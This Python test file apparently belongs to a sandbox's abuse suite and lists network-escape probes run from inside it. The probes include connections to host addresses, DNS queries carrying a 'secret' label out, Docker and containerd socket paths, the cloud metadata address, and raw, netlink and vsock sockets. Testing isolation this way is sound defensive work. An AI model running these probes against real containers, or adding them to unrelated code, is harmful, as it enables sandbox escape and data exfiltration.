"""Ways to the network and to sockets of the host."""

from tests.abuse.attack import Attack

_REACH = """
def reach(family, address, port=None):
    def talk():
        with socket.socket(family, socket.SOCK_STREAM) as door:
            door.settimeout(1)
            door.connect(address if port is None else (address, port))
            door.sendall(b"out")
            return True
    return attempt(talk)
"""
_MAKE = """
def make(*kind):
    made = attempt(lambda: socket.socket(*kind))
    if made is not None: escaped("socket", *kind)
    return made
"""

ATTACKS = (
    Attack(
        "tcp_to_the_host",
        _REACH + "for address in [*host.addresses, '10.0.2.2', '172.17.0.1']:\n"
        " reach(socket.AF_INET, address, host.tcp_port)",
    ),
    Attack(
        "udp_to_the_host",
        """
for address in [*host.addresses, "10.0.2.2", "172.17.0.1", "255.255.255.255"]:
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", (address, host.udp_port)))
""",
    ),
    Attack(
        "dns_carries_data_out",
        """
query = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\\x06secret\\x07example\\x00" + struct.pack("!2H", 1, 1)
servers = [(line.split()[1], 53) for line in (read("/etc/resolv.conf") or b"").decode().splitlines()
           if line.startswith("nameserver") and "." in line]
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.5)
        asking.sendto(query, server)
        return asking.recv(512)
for server in [*((address, host.dns_port) for address in host.addresses), *servers[:2]]:
    if attempt(ask, server): escaped("answered by", server)
""",
    ),
    Attack("unix_socket_of_the_host", _REACH + "reach(socket.AF_UNIX, host.unix)"),
    Attack("abstract_socket_of_the_host", _REACH + "reach(socket.AF_UNIX, '\\0' + host.abstract)"),
    Attack(
        "docker_socket",
        _REACH
        + """
for path in (host.docker, host.engine, "/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
             "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
    if path and reach(socket.AF_UNIX, path): escaped("connected to", path)
""",
    ),
    Attack(
        "metadata_address",
        """
door = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
if door is not None:
    door.settimeout(1)
    result = attempt(door.connect_ex, ("169.254.169.254", 80))
    refused = (errno.ENETUNREACH, errno.EPERM, errno.EACCES, errno.ENOSYS)
    if result not in refused: escaped("a packet went out:", errno.errorcode.get(result))
""",
        not_bare="a machine without a route has no metadata service either; tcp_to_the_host shows the same way out",
    ),
    Attack("vsock", _MAKE + "make(40, socket.SOCK_STREAM)", not_bare="not every kernel has the module"),
    Attack("packet_socket", _MAKE + "make(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))", for_root=True),
    Attack("raw_socket", _MAKE + "make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", for_root=True),
    Attack("kernel_crypto_socket", _MAKE + "make(38, socket.SOCK_SEQPACKET)", not_bare="not every kernel has AF_ALG"),
    Attack(
        "exotic_socket_families",
        _MAKE + "for family in (9, 17, 21, 29, 30, 31, 44): make(family, socket.SOCK_DGRAM)\n"
        "for protocol in (6, 9, 12, 15): \n made = attempt(socket.socket, 16, socket.SOCK_RAW, protocol)\n"
        " if made and attempt(made.bind, (0, 1)) is not None: escaped('netlink', protocol)",
        for_root=True,
    ),
)
